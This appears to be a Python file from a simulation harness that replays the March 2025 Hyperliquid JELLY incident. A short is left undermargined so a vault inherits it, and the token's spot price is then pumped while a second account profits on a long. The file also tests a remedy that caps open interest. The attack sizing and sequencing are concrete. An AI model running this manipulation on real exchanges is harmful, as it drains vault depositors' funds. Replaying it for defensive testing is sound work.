"""Hyperliquid and JELLY, 26 March 2025: the vault inherits a short, and its price is squeezed.

A short on a token of small float is left without margin, so that the vault takes it over; then the
token is bought up in its spot market, while other accounts of the same owner are long.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import all_of, swap
from harness.attacks.perps import SHARE_PRICE_USD, open_exchange
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage


@dataclass(frozen=True)
class Jelly(Parameters):
    """Whole tokens; USD.

    size: of the short, and of the long of the second account
    start_usd, peak_usd: before, and where the spot market is bought to
    spot_quote_usd: reserve of that market on each side
    float_share_bps: of float_tokens that open interest may have on a side, when remedied
    """

    size: float = 398_000_000.0
    start_usd: float = 0.0095
    peak_usd: float = 0.0397
    spot_quote_usd: float = 2_000_000.0
    vault_usd: float = 200_000_000.0
    float_tokens: float = 1_000_000_000.0
    float_share_bps: int = 500


def play(stage: Stage, p: Jelly) -> Generator[int | None, None, None]:
    """Both sides; the short is left to the vault; the token is bought up; the long is closed."""
    usd, jelly = stage.token("USD", 1), stage.token("JELLY", p.start_usd)
    dollar = stage.feed("USD")
    reserve = round(p.spot_quote_usd / p.start_usd, 6)
    pool = stage.pool("JELLY", "USD", reserve, p.spot_quote_usd, fee_pips=3000)
    feed = stage.deploy("PoolSpotFeed", pool, jelly, dollar, 10, "JELLY spot")
    lps = stage.actor("vault-depositors", "victim", USD=p.vault_usd)
    cap = int(p.float_tokens * p.float_share_bps / 10_000) * 10**18
    caps = {"long_cap": cap, "short_cap": cap} if p.remedied else None
    perp = open_exchange(
        stage,
        "exchange",
        "USD",
        feed,
        provider=lps,
        vault=p.vault_usd,
        market=caps,
        risk={"backstop_bps": 6_667},
    )
    notional = p.size * p.start_usd
    margin = round(notional * 0.1 * 1.0001, 2)
    pump = round(p.spot_quote_usd * ((p.peak_usd / p.start_usd) ** 0.5 - 1) * 1.003, 6)
    attacker = stage.actor("attacker", USD=margin + pump)
    second = stage.actor("second-account", USD=margin)
    keeper = stage.actor("keeper", "bystander")
    others = stage.actor("sellers", "bystander", JELLY=reserve)
    router = stage.router
    stage.approve(attacker, ["USD"], perp, router)
    stage.approve(second, ["USD"], perp)
    stage.approve(others, ["JELLY"], router)
    yield None

    long = stage.send("buy 398M", second, perp.deposit(second, margin), perp.trade(second, p.size))
    short = stage.send(
        "sell 398M", attacker, perp.deposit(attacker, margin), perp.trade(attacker, -p.size)
    )
    yield None
    if not (long.done and short.done):
        return
    first = round(p.spot_quote_usd * (1.085**0.5 - 1) * 1.003, 6)
    stage.send(
        "buy a little in the spot market: the short is past the backstop",
        attacker,
        swap(router, pool, usd, stage.units("USD", first), attacker),
    )
    yield None
    stage.send("have the short taken over", keeper, perp.liquidate(attacker))
    yield None
    stage.send(
        "buy the token up", attacker, swap(router, pool, usd, all_of(usd, attacker), attacker)
    )
    yield None
    peak = stage.spot("JELLY", "USD")
    stage.measure("peak_price_usd", peak)
    before = stage.valuer().worth({"LV": stage.read(perp.vault, "totalSupply")}) / 10**26
    stage.measure("vault_unrealised_usd", before - p.vault_usd)
    stage.send("close the long", second, perp.trade(second, -p.size))
    yield None
    free = perp.equity(stage, second)
    stage.send(
        "withdraw",
        second,
        perp.withdraw(second, free),
    )
    stage.send("sell the tokens", others, swap(router, pool, jelly, _back(stage, p), others))
    yield None


def _back(stage: Stage, p: Jelly) -> int:
    """JELLY that brings the pool back to the price before."""
    reserve = stage.read(stage.pools["JELLY/USD"], "getReserves")[0] / 10**18
    more = reserve * ((stage.spot("JELLY", "USD") / p.start_usd) ** 0.5 - 1)
    return stage.units("JELLY", round(more, 6))


ATTACK = Attack(
    name="inherited-short",
    title="a short is left to the vault, then its token is bought up",
    sources=("Hyperliquid and JELLY, 26 March 2025",),
    play=play,
    parameters=Jelly(),
    remedy="open interest is capped at a share of the token's float",
    stopped_by="OpenInterestCap",
    protocol=(Check("loss", at_most=SHARE_PRICE_USD),),
    goal=lambda _: Check("loss", at_least=5_000_000),
    reported="a short of 398M, $12M unrealised against the vault",
)
